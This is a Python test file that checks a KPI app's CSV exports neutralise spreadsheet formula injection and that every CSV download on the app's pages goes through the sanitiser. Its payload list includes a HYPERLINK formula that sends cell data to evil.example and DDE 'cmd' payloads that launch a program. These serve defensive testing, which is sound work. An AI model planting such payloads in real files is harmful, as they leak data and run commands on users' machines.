"""Spreadsheet-formula injection: every CSV export neutralises cells that would run as formulas."""

import csv
import io
import re

import pandas as pd
import pytest

from kpi.ingest.csv_safety import neutralise_formulas, safe_csv_bytes

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_get_a_leading_quote(payload):
    df = pd.DataFrame({"title": [payload], "owner": ["ana"]})
    safe = neutralise_formulas(df)
    assert safe.loc[0, "title"] == "'" + payload
    assert safe.loc[0, "owner"] == "ana"
    back = pd.read_csv(io.BytesIO(safe_csv_bytes(df)), encoding="utf-8-sig", dtype=str)
    assert back.loc[0, "title"].startswith("'")


def test_numbers_dates_and_plain_text_are_untouched():
    df = pd.DataFrame(
        {
            "n": [-5, 3],
            "when": pd.to_datetime(["2025-01-06", "2025-02-01"]),
            "text": ["a = b", "ñandú 🧭"],
            "missing": [None, "x"],
        }
    )
    safe = neutralise_formulas(df)
    assert safe["n"].tolist() == [-5, 3]
    assert safe["when"].tolist() == df["when"].tolist()
    assert safe["text"].tolist() == ["a = b", "ñandú 🧭"]
    assert pd.isna(safe.loc[0, "missing"])
    assert df.loc[0, "text"] == "a = b", "the original frame is not modified"


def records_split_on_any_line_break(text: str) -> list[str]:
    """The records of `text` for a reader that ends one at a bare CR or LF outside quotes."""
    # An even number of quote characters before a break means it is outside quotes ("" is an
    # escaped quote, two characters, so it keeps the parity).
    parts = re.split(r"(\r\n|\r|\n)", text)
    records, current = [], ""
    for part in parts:
        if part in ("\r\n", "\r", "\n") and current.count('"') % 2 == 0:
            records.append(current)
            current = ""
        else:
            current += part
    return [*records, current] if current else records


def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
    df = pd.DataFrame({"title": ["ok\r=cmd|' /C calc'!A0", "b\nc"], "n": [1, 2]})
    text = safe_csv_bytes(df).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["title", "n"], ["ok\r=cmd|' /C calc'!A0", "1"], ["b\nc", "2"]]
    # What a spreadsheet that ends a row at any CR or LF outside quotes would see.
    assert not [row for row in records_split_on_any_line_break(text) if row.startswith("=")]


def test_column_names_are_neutralised_too():
    df = pd.DataFrame({"=cmd": ["x"]})
    assert list(neutralise_formulas(df).columns) == ["'=cmd"]


def test_csv_starts_with_bom_for_excel_accents():
    assert safe_csv_bytes(pd.DataFrame({"a": ["é"]})).startswith(b"\xef\xbb\xbf")


def _csv_downloads_without_neutralising() -> list[str]:
    """Every st.download_button in the pages that offers a CSV must pass it through safe_csv_bytes."""
    import ast
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    unsafe = []
    for path in sorted((root / "app_pages").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "download_button"
            ):
                continue
            keywords = {k.arg: k.value for k in node.keywords}
            described = ast.unparse(keywords.get("mime", ast.Constant(""))) + ast.unparse(
                keywords.get("file_name", ast.Constant(""))
            )
            if "csv" not in described.lower():
                continue
            data = keywords.get("data", node.args[1] if len(node.args) > 1 else None)
            if not (isinstance(data, ast.Call) and ast.unparse(data.func) == "safe_csv_bytes"):
                unsafe.append(f"{path.name}:{node.lineno}")
    return unsafe


def test_every_csv_download_in_the_pages_is_neutralised():
    assert _csv_downloads_without_neutralising() == []
